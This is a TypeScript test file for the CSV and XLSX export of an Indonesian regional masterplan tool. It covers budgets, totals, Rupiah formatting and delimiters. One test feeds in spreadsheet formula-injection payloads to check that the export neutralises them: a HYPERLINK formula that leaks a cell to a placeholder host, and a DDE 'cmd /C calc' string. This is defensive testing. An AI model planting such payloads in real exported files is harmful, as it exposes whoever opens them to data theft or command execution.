import { readFileSync } from "node:fs";
import { mkdtemp, readFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { strFromU8, unzipSync } from "fflate";
import { expect, it } from "vitest";
import { programsCsv } from "../../src/export/csv.js";
import { programTable } from "../../src/export/program-table.js";
import type { Locale } from "../../src/model/locale.js";
import { resolvePrograms } from "../../src/model/programs.js";
import { prepare } from "../../src/pipeline/prepare.js";
import { runInProcess } from "../helpers/cli.js";

const locale = JSON.parse(readFileSync("templates/default/locale.json", "utf8")) as Locale;

it("keeps unknown amounts unknown in the table and in the CSV", async () => {
  const { sources } = await prepare("test/fixtures/kota-contoh");
  const table = programTable(resolvePrograms(sources!, locale), {
    source: (s) => s?.toUpperCase() ?? "?",
    unassigned: locale.unassigned,
    program: "program",
    budget: "anggaran",
  });
  expect(table.years).toEqual([2024, 2025]);
  const gov = table.rows.find((r) => r.id === "program-governance")!;
  expect(gov.lead).toBeNull();
  expect(gov.budget).toEqual([
    { known: 0, complete: false },
    { known: 0, complete: false },
  ]);
  const csv = programsCsv(table);
  expect(csv.startsWith("\uFEFFDimensi,")).toBe(true);
  const line = csv.split("\r\n").find((l) => l.includes(",program-governance,"))!;
  expect(line).toContain(",belum diketahui,belum diketahui,belum diketahui,,,sebagian anggaran");
  const economy = csv.split("\r\n").find((l) => l.includes(",program-economy,"))!;
  expect(economy).toContain(
    ",150000000,belum diketahui,150000000,APBD,,sebagian anggaran belum diketahui",
  );
  expect(csv).not.toMatch(/,0,/);
});

it("exports the bundled plan as CSV, one row per program and a totals row", async () => {
  const out = await mkdtemp(path.join(os.tmpdir(), "mp-export-"));
  const file = path.join(out, "p.csv");
  const r = await runInProcess(["export", "masterplan", "--format", "csv", "--out", file]);
  expect(r.code, r.stderr).toBe(0);
  const bytes = await readFile(file);
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const lines = bytes.toString("utf8").trimEnd().split("\r\n");
  const { sources } = await prepare("masterplan");
  expect(lines).toHaveLength(1 + sources!.programs.length + 1);
  expect(lines.at(-1)).toMatch(/^Jumlah,/);
  expect(lines.at(-1)).toContain(",62891000000,");
});

it("exports an XLSX workbook whose years and budgets are number cells in Rupiah", async () => {
  const out = await mkdtemp(path.join(os.tmpdir(), "mp-export-"));
  const file = path.join(out, "p.xlsx");
  const r = await runInProcess(["export", "masterplan", "--format", "xlsx", "--out", file]);
  expect(r.code, r.stderr).toBe(0);
  const zip = unzipSync(new Uint8Array(await readFile(file)));
  const sheet = strFromU8(zip["xl/worksheets/sheet1.xml"]!);
  const styles = strFromU8(zip["xl/styles.xml"]!);
  expect(styles).toContain('formatCode="&quot;Rp&quot; #,##0"');
  // Row 2 is the first program: its budget years (from column K, after the SIPD codes in E) is a number with the Rupiah style.
  const k2 = /<c r="[K-Z]2"( s="(\d+)")?>(<v>\d+<\/v>)<\/c>/.exec(sheet);
  expect(k2, "a budget of row 2 is a number cell").not.toBeNull();
  const rows = [...sheet.matchAll(/<row [^>]*>/g)].length;
  const { sources } = await prepare("masterplan");
  expect(rows).toBe(1 + sources!.programs.length + 1);
  expect(sheet).toMatch(new RegExp(`<c r="AA${rows}" s="\\d+"><v>62891000000</v></c>`));
});

it("writes no cell a spreadsheet would take for a formula, in CSV and XLSX alike", async () => {
  const dir = await mkdtemp(path.join(os.tmpdir(), "mp-export-"));
  const { cp, writeFile } = await import("node:fs/promises");
  await cp("test/fixtures/kota-contoh", dir, { recursive: true });
  const attacks = [
    '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1+1)",
    "\tTab di depan",
    "\rCR di depan",
  ];
  for (const [i, name] of attacks.entries()) {
    const file = path.join(dir, "programs", "governance", `serangan-${i}.yaml`);
    const program = readFileSync(
      path.join(dir, "programs", "governance", "program-governance.yaml"),
      "utf8",
    );
    await writeFile(
      file,
      program
        .replace(/^id: .*$/m, `id: serangan-${i}`)
        .replace(/^name: .*$/m, `name: ${JSON.stringify(name)}`),
    );
  }
  const agencies = path.join(dir, "agencies.yaml");
  await writeFile(
    agencies,
    (await readFile(agencies, "utf8")).replace(
      /abbreviation: .*/,
      `abbreviation: "@SUM(1+1)*cmd|' /C calc'!A0"`,
    ),
  );
  const csvFile = path.join(dir, "p.csv");
  const xlsxFile = path.join(dir, "p.xlsx");
  expect((await runInProcess(["export", dir, "--out", csvFile])).code).toBe(0);
  expect((await runInProcess(["export", dir, "--format", "xlsx", "--out", xlsxFile])).code).toBe(0);

  // Every cell, read back as a spreadsheet would: none begins with a formula's first character.
  const csvCells = parseCsv((await readFile(csvFile, "utf8")).replace(/^\uFEFF/, ""));
  const zip = unzipSync(new Uint8Array(await readFile(xlsxFile)));
  const shared = strFromU8(zip["xl/sharedStrings.xml"] ?? new Uint8Array());
  const sheet = strFromU8(zip["xl/worksheets/sheet1.xml"]!);
  const xmlText = (s: string) =>
    s
      .replace(/&lt;/g, "<")
      .replace(/&gt;/g, ">")
      .replace(/&quot;/g, '"')
      .replace(/&amp;/g, "&");
  const xlsxCells = [
    ...[...shared.matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map((m) => xmlText(m[1]!)),
    ...[...sheet.matchAll(/<is><t[^>]*>([^<]*)<\/t><\/is>/g)].map((m) => xmlText(m[1]!)),
  ];
  expect(sheet).not.toContain("<f>");
  for (const cells of [csvCells, xlsxCells]) {
    expect(cells.length).toBeGreaterThan(20);
    for (const c of cells) expect(c, JSON.stringify(c)).not.toMatch(/^[=+\-@\t\r]/);
    for (const name of attacks) expect(cells).toContain(`'${name}`);
  }
});

/** RFC 4180 cells, quotes and line breaks inside them included. */
function parseCsv(text: string): string[] {
  const cells: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === "," || (c === "\r" && text[i + 1] === "\n")) {
      cells.push(cell);
      cell = "";
      if (c === "\r") i++;
    } else cell += c;
  }
  return cells;
}

it("exports a program's SIPD codes in a column of their own", async () => {
  const { sources } = await prepare("test/fixtures/kabupaten-perbup");
  const table = programTable(resolvePrograms(sources!, locale), {
    source: (s) => s ?? "?",
    unassigned: locale.unassigned,
    program: "program",
    budget: "anggaran",
  });
  const [head, ...rows] = programsCsv(table).replace("\uFEFF", "").split("\r\n");
  const column = head!.split(",").indexOf("Nomenklatur SIPD");
  expect(column).toBe(4);
  const row = rows.find((l) => l.includes(",contoh-governance,"))!.split(",");
  expect(row[column]).toBe("2.16.03.2.02");
  expect(rows.find((l) => l.includes(",contoh-economy,"))!.split(",")[column]).toBe("");
});

it("writes a CSV for an Excel set to Indonesian with --delimiter ';', and names the XLSX for Excel", async () => {
  const dir = await mkdtemp(path.join(os.tmpdir(), "mp-export-"));
  const out = path.join(dir, "plan.csv");
  const r = await runInProcess(["export", "masterplan", "--delimiter", ";", "--out", out]);
  expect(r.code, r.stderr).toBe(0);
  const lines = (await readFile(out, "utf8")).replace("\uFEFF", "").trimEnd().split("\r\n");
  const head = lines[0]!.split(";");
  expect(head.length).toBeGreaterThan(10);
  // A name holding the separator is quoted; a comma no longer needs to be.
  const all = await prepare("masterplan");
  expect(lines.length).toBe(all.sources!.programs.length + 2);
  expect(lines.every((l) => l.split(";").length >= head.length)).toBe(true);
  const plain = await runInProcess(["export", "masterplan", "--out", path.join(dir, "comma.csv")]);
  expect(plain.stderr).toContain("--format xlsx");
  expect(plain.stderr).toContain('--delimiter ";"');
  const tab = await runInProcess([
    "export",
    "masterplan",
    "--delimiter",
    "tab",
    "--out",
    path.join(dir, "t.csv"),
  ]);
  expect(
    (await readFile(path.join(dir, "t.csv"), "utf8")).split("\r\n")[0]!.split("\t").length,
  ).toBe(head.length);
  expect(tab.code).toBe(0);
  expect((await runInProcess(["export", "masterplan", "--delimiter", "|"])).code).toBe(2);
});
